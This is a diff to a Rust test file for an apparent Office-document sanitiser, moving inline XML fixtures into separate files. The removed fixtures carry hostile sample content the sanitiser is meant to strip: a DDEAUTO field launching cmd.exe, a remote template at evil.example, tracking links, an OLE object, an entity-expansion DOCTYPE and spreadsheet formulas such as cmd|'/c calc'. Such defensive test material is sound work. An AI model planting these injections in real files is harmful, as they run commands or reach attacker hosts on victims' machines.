@@ -6,10 +6,10 @@ use zip::ZipArchive;
 
 use super::archives::{archive, seen};
 
-const TYPES: &str = r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/><Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>"#;
-const ROOT: &str = r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/></Relationships>"#;
-const RELATIONS: &str = r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://track.example/x" TargetMode="External"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://track.example/p.png" TargetMode="External"/><Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="embeddings/oleObject1.bin"/><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
-const BODY: &str = r#"<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body><w:p><w:ins w:id="1" w:author="李某某" w:date="2024-01-02T00:00:00Z"><w:r><w:t>采购 &amp; 合同正文</w:t></w:r></w:ins><w:hyperlink r:id="rId2"><w:r><w:t>链接</w:t></w:r></w:hyperlink><w:r><w:instrText xml:space="preserve">DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:object><o:OLEObject r:id="rId4"/></w:object><w:blip r:link="rId3"/><w:fldSimple w:instr="INCLUDETEXT http://x"><w:r/></w:fldSimple></w:p></w:body></w:document>"#;
+const TYPES: &str = include_str!("parts/types.xml");
+const ROOT: &str = include_str!("parts/root.xml");
+const RELATIONS: &str = include_str!("parts/relations.xml");
+const BODY: &str = include_str!("parts/body.xml");
 
 fn document() -> Vec<u8> {
     archive(
@@ -78,9 +78,9 @@ fn a_copy_of_a_text_has_its_words_and_nothing_that_acts_or_names_its_authors() {
 
 #[test]
 fn a_copy_of_a_table_keeps_values_and_drops_what_reaches_out() {
-    let sheet = r#"<worksheet><sheetData><row><c r="A1"><f>SUM(B1:B2)</f><v>3</v></c><c r="A2"><f>cmd|'/c calc'!A0</f><v>9</v></c><c r="A3"><f>WEBSERVICE("http://x")</f><v>7</v></c><c r="A4"><f>[1]Tabelle!A1</f><v>5</v></c></row></sheetData></worksheet>"#;
+    let sheet = include_str!("parts/sheet.xml");
     let notes = r#"<comments><authors><author>李某某</author></authors></comments>"#;
-    let types = r#"<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>"#;
+    let types = include_str!("parts/sheet_types.xml");
     let original = archive(
         &[
             ("[Content_Types].xml", types.as_bytes()),
